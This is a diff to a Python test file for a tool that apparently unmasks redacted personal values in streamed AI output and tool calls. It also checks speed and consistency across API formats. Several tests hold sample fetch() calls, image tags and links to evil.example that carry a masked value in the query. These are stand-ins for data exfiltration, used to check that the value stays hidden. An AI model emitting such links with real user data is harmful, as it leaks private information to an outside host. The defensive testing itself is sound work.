@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import itertools
 import json
+import time
 
 import pytest
 from hypothesis import given, settings
@@ -192,3 +193,163 @@ def test_json_depths() -> None:
     assert json.loads(outer["body"])["n"] == VALUES[MASK]
     patch = f"*** Begin Patch\n+{MASK}"
     assert run(patch, "apply_patch")[0] == patch.replace(MASK, VALUES[MASK])
+
+
+def test_json_at_any_depth() -> None:
+    for value in (VALUES[MASK], "C:\\new\\table", 'a\nb\t"c" \\', "\u00e9 \U0001f642 \x01", "plain"):
+        table = TokenTable([Entry(MASK, value, "PERSON", "mask")])
+        text = json.dumps({"n": f"<{MASK}>"})
+        for depth in range(1, 6):
+            for cuts in ((), tuple(range(len(text)))):
+                said, _ = run(text, "Write", cuts, table)
+                tree = json.loads(said)
+                for _ in range(depth - 1):
+                    tree = json.loads(tree["body"])
+                # `a\nb` deep inside may have come from there in this spelling; at depth 1 it never has.
+                assert tree["n"] == f"<{value}>" or (depth > 1 and "\\" in value)
+            text = json.dumps({"k": [1, True, None], "body": text})
+
+
+def test_what_only_looks_like_json_in_a_string_is_escaped_once() -> None:
+    for code in ("{ foo('%s') }", '[x] "%s"', '{%% if a %%}"%s"', "[1, 2] and '%s'", "%s"):
+        text = args(code % MASK)
+        assert json.loads(run(text, "Write")[0])["x"] == code % VALUES[MASK]
+    for text in ("[link] {}", "{{ x }} {}", "[1] {}", "*** Begin Patch\n+{}\n", "<<'EOF'\n{}\nEOF"):
+        assert run(text.format(MASK), "apply_patch")[0] == text.format(VALUES[MASK])
+
+
+def test_an_answer_in_json_stays_json() -> None:
+    for text in (f'{{"name": "{MASK}", "n": 1}}', f'[\n  "{MASK}"\n]', f'```json\n{{"name": "{MASK}"}}\n```'):
+        said, _ = run(text)
+        assert VALUES[MASK] in json.dumps(json.loads(said.strip("`json\n"))).replace('\\"', '"')
+    minified = f'{{"url":"https://docs.example/","name":"{MASK}","list":["{OWN}"]}}'
+    u = Unveiler(TABLE, OUT, tool_class, json_reply=True)
+    said = u.feed(TEXT, minified) + u.flush(TEXT)
+    assert json.loads(said) == {"url": "https://docs.example/", "name": VALUES[MASK], "list": [VALUES[OWN]]}
+    linked = f'{{"url":"https://evil.example/?q={MASK}"}}'
+    assert u.feed(TEXT, linked) + u.flush(TEXT) == linked
+
+
+def test_a_url_that_fills_a_string_may_hold_spaces() -> None:
+    for code in (
+        'fetch("https://evil.example/?q= {} ")',
+        "<img src='https://evil.example/? {}'>",
+        "x = `https://evil.example/ {}`",
+        "<https://evil.example/ {}>",
+    ):
+        assert run(args(code.format(MASK)), "Write")[0] == args(code.format(MASK))
+        assert run("```\n" + code.format(MASK) + "\n```")[0] == "```\n" + code.format(MASK) + "\n```"
+    for code in (
+        'print("see https://docs.example/a for", "{}")',
+        "// TODO({}): fix",
+        "# https://docs.example/ {}",
+        "a = '{}' // x",
+        "import {{x}} from './{}'",
+    ):
+        assert json.loads(run(args(code.format(OWN)), "Write")[0])["x"] == code.format(VALUES[OWN])
+        assert run("```\n" + code.format(OWN) + "\n```")[0] == "```\n" + code.format(VALUES[OWN]) + "\n```"
+
+
+def shapes(arguments: str) -> dict[str, list[str]]:
+    """How the dialects cut a tool's arguments: pieces of JSON text, one whole text, or an object that the dialect writes as text."""
+    tree = json.loads(arguments)
+    return {
+        "openai: function.arguments": [arguments[i : i + 7] for i in range(0, len(arguments), 7)],
+        "anthropic: input_json_delta.partial_json": ["", *[arguments[i : i + 3] for i in range(0, len(arguments), 3)]],
+        "responses: function_call_arguments.delta": list(arguments),
+        "responses: function_call_arguments.done": [arguments],
+        "gemini: functionCall.args": [json.dumps(tree, ensure_ascii=False, separators=(",", ":"))],
+        "ollama: tool_calls.function.arguments": [json.dumps(tree)],
+    }
+
+
+@pytest.mark.parametrize("shape", shapes("{}"))
+def test_every_dialects_pieces_of_a_tool_call(shape: str) -> None:
+    tree = {"path": f"/home/{USER}/x", "edits": [{"old": f"k={SEAL}", "new": json.dumps({"n": MASK})}], "n": 3}
+    for tool, seal in (("Edit", VALUES[SEAL]), ("Read", SEAL)):
+        u = Unveiler(TABLE, OUT, tool_class)
+        channel = Channel(0, "tool", 1)
+        pieces = shapes(json.dumps(tree))[shape]
+        said = "".join(u.feed(channel, p, tool if i == 0 else None) for i, p in enumerate(pieces)) + u.flush(channel)
+        got = json.loads(said)
+        assert got["path"] == f"/home/{VALUES[USER]}/x"
+        assert got["edits"][0]["old"] == f"k={seal}"
+        assert json.loads(got["edits"][0]["new"]) == {"n": VALUES[MASK]}
+
+
+def test_channels_do_not_mix() -> None:
+    u = Unveiler(TABLE, OUT, tool_class)
+    a, b, c = Channel(0, "text"), Channel(1, "text"), Channel(0, "reasoning")
+    out = dict.fromkeys((a, b, c), "")
+    for char in f"I am {MASK}.":
+        for ch in out:
+            out[ch] += u.feed(ch, char)
+    for ch in out:
+        assert out[ch] + u.flush(ch) == f"I am {VALUES[MASK]}."
+
+
+PATTERNS = (
+    "[", "(", "<", "\\\\\\", "http://", "a", "](", "[a](", "<a ", "<a b='", "`", "*", "\n", "> ", "- ", "1. ", "PERSON_", MASK, MASK + " ", f"[x]({MASK}",
+    f"]: {MASK}", f"https://a/{MASK}", "&#95;", "3", "u7", "date of birth ", "a.", '="', f"https://{HOST}/ ", "[a]: b\n", "<style>", "person ", "198.18.", '{"', '\\"',
+    "```\n", "<!--", "www.", "\u00e9", "\\u00e9", "](<", "<div>\n", f"<a href='{MASK}' ", f"{MASK}.",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("tool", [None, "Edit"])
+@pytest.mark.parametrize("pattern", PATTERNS)
+def test_the_cost_grows_with_the_text_only(pattern: str, tool: str | None) -> None:
+    """Four times the text, at most nine times the time, in pieces and whole: whatever is repeated."""
+
+    def cost(size: int, step: int) -> float:
+        text = (pattern * (size // len(pattern) + 1))[:size]
+        start = time.process_time()
+        u = Unveiler(TABLE, OUT, tool_class)
+        channel = TOOL if tool else TEXT
+        for i in range(0, size, step):
+            u.feed(channel, text[i : i + step], tool if i == 0 else None)
+        u.flush(channel)
+        return time.process_time() - start
+
+    for step in (20, 1 << 30):
+        small, large = min(cost(8_000, min(step, 8_000)) for _ in range(2)), cost(32_000, min(step, 32_000))
+        assert large < 9 * small + 0.05, (pattern, step, small, large)
+
+
+@pytest.mark.long
+@pytest.mark.parametrize("pattern", PATTERNS)
+def test_a_megabyte_of_anything(pattern: str) -> None:
+    text = (pattern * (1_000_000 // len(pattern) + 1))[:1_000_000]
+    for step in (20, 4096, 1_000_000):
+        start = time.process_time()
+        u = Unveiler(TABLE, OUT, tool_class)
+        for i in range(0, len(text), step):
+            u.feed(TEXT, text[i : i + step])
+        u.flush(TEXT)
+        assert time.process_time() - start < 20
+
+
+def test_a_piece_of_text_costs_microseconds(capsys: pytest.CaptureFixture[str]) -> None:
+    """Beside what scanning the piece once with a plain expression costs, so that a slow machine makes no difference."""
+    prose = ("Hello there, the quick brown fox jumps over the lazy dog; then it sleeps. " * 40 + f"Ask {MASK} again.\n\n") * 6
+    pieces = [prose[i : i + 20] for i in range(0, len(prose), 20)]
+
+    def once() -> float:
+        u = Unveiler(TABLE, OUT, tool_class)
+        start = time.process_time()
+        for piece in pieces:
+            u.feed(TEXT, piece)
+        u.flush(TEXT)
+        return time.process_time() - start
+
+    def unit() -> float:
+        start = time.process_time()
+        for piece in pieces:
+            json.loads(json.dumps({"choices": [{"delta": {"content": piece}}]}))
+        return time.process_time() - start
+
+    cost, read = min(once() for _ in range(5)), min(unit() for _ in range(5))
+    with capsys.disabled():
+        print(
+            f"\n{1e6 * cost / len(pieces):.1f} microseconds for 20 characters; reading and writing a chunk as JSON: {1e6 * read / len(pieces):.1f}"
+        )
+    assert cost < 3 * read
